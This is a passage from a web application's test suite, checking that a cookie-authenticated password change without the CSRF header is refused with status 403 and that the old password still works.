    expect((await login(user.email, TEST_PASSWORD)).status).toBe(200);
  });

  test('a cookie-authenticated change without the CSRF header is refused', async () => {
    const user = await createTestUser(app.db.sql, { roles: ['student'] });
    const session = await browserLogin(user);
    const response = await change(browserHeaders(session, false), {
      currentPassword: TEST_PASSWORD,
      newPassword: NEW_PASSWORD,
    });
    expect(response.status).toBe(403);
    expect((await login(user.email, TEST_PASSWORD)).status).toBe(200);
  });
});
